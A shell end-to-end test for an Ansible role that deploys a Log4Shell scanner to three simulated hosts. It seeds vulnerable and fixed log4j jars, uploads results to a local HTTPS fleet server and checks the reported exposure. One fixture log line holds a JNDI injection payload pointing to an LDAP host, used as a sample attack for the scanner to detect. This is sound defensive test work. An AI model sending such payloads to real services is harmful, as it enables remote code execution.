#!/bin/sh
# The Ansible role end to end: three hosts (ansible_connection=local, each
# with its own root folder of jars and logs) run deploy/ansible/site.yml,
# which scans and hunts with --upload to a real `fleet serve` over HTTPS on
# loopback; `fleet status` must then show the three hosts and their findings.
# usage: ansible_e2e_test.sh LOG4SHIELD FIXTURES SCRATCH SOURCE_DIR
set -eu
bin="$1" fixtures="$2" dir="$3" src="$4"
command -v ansible-playbook >/dev/null || { echo "SKIP: ansible-playbook not installed"; exit 77; }
[ -d "$fixtures/jars" ] || { echo "SKIP: fixtures not found at $fixtures"; exit 77; }
rm -rf "$dir"
mkdir -p "$dir"
cd "$dir"

# A test CA and a certificate for 127.0.0.1.
openssl ecparam -name prime256v1 -genkey -noout -out ca.key
openssl req -x509 -new -key ca.key -days 2 -subj '/CN=ansible test CA' -out ca.pem
openssl ecparam -name prime256v1 -genkey -noout -out server.key
openssl req -new -key server.key -subj '/CN=127.0.0.1' -out server.csr
printf 'subjectAltName=IP:127.0.0.1\n' > san.ext
openssl x509 -req -in server.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -extfile san.ext \
  -out server.pem 2>/dev/null

"$bin" fleet token create --db fleet.db --name fleet-hosts --role upload --hosts '*' > upload.token 2>/dev/null
"$bin" fleet serve --listen 127.0.0.1:0 --db fleet.db --tls-cert server.pem --tls-key server.key 2> serve.log &
server=$!
trap 'kill $server 2>/dev/null || true' EXIT
port=""
for _ in $(seq 100); do
  port="$(sed -n 's|.*listening on https://127\.0\.0\.1:\([0-9]*\).*|\1|p' serve.log)"
  [ -n "$port" ] && break
  sleep 0.1
done
[ -n "$port" ] || { echo "fleet serve did not start:"; cat serve.log; exit 1; }

# Per-host roots: web01 runs a vulnerable 2.14.1 and was attacked, web02 runs
# a fixed 2.17.1, db01 a vulnerable 2.14.1 inside a war.
jars="$fixtures/jars/mergebase-log4j-samples"
for h in web01 web02 db01; do mkdir -p "hosts/$h/opt/app" "hosts/$h/var/log/app"; done
cp "$jars/true-hits/log4j-core-2.14.1.jar" hosts/web01/opt/app/
cp "$jars/false-hits/log4j-core-2.17.1.jar" hosts/web02/opt/app/
mkdir -p war/WEB-INF/lib && cp "$jars/true-hits/log4j-core-2.14.1.jar" war/WEB-INF/lib/
(cd war && zip -qr ../hosts/db01/opt/app/shop.war WEB-INF)
printf '10.0.0.5 - - [08/Dec/2026:01:00:00 +0000] "GET /?q=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1" 200 1\n' \
  > hosts/web01/var/log/app/access.log
printf 'quiet day\n' > hosts/web02/var/log/app/access.log
printf 'quiet day\n' > hosts/db01/var/log/app/access.log

cat > inventory.ini <<INI
[fleet]
web01 log4shield_root=$dir/hosts/web01
web02 log4shield_root=$dir/hosts/web02
db01 log4shield_root=$dir/hosts/db01

[fleet:vars]
ansible_connection=local
ansible_python_interpreter=/usr/bin/python3
log4shield_binary_src=$bin
log4shield_server=https://127.0.0.1:$port
log4shield_token_src=$dir/upload.token
log4shield_ca_cert_src=$dir/ca.pem
log4shield_low_priority=false
INI
# Paths under each host's root, set per host from its root.
cat > vars.yml <<'YML'
log4shield_scan_paths: ["{{ log4shield_root }}/opt"]
log4shield_hunt_paths: ["{{ log4shield_root }}/var/log"]
YML
ANSIBLE_LOCALHOST_WARNING=false ANSIBLE_INVENTORY_UNPARSED_WARNING=false ANSIBLE_NOCOLOR=1 \
  ansible-playbook -i inventory.ini -e @vars.yml "$src/deploy/ansible/site.yml" > ansible.log 2>&1 || {
  cat ansible.log; echo "--- serve.log"; cat serve.log; exit 1; }

"$bin" fleet status --db fleet.db --format json -o status.json || true
python3 - status.json <<'PY'
import json, sys
s = json.load(open(sys.argv[1]))
hosts = {h["host"]: h for h in s["hosts"]}
assert sorted(hosts) == ["db01", "web01", "web02"], sorted(hosts)
assert hosts["web01"]["exposed"] and hosts["db01"]["exposed"], hosts
assert not hosts["web02"]["exposed"] and hosts["web02"]["safe"] >= 1, hosts["web02"]
assert hosts["web01"]["attempts"] == 1 and hosts["web02"]["attempts"] == 0, hosts
assert any("shop.war!/" in c["location"] for c in hosts["db01"]["current"]), hosts["db01"]["current"]
assert sorted(s["exposed_by_cve"]["CVE-2021-44228"]["host_list"]) == ["db01", "web01"]
print("fleet status: 3 hosts, web01 and db01 exposed, web02 safe, web01's attempt recorded")
PY
# Each host's outbox is empty: everything was delivered.
for h in web01 web02 db01; do
  left="$(find "hosts/$h/var/lib/log4shield/outbox" -type f 2>/dev/null | wc -l)"
  [ "$left" -eq 0 ] || { echo "$h: $left reports left in the outbox"; exit 1; }
done
echo "ansible e2e: ok"
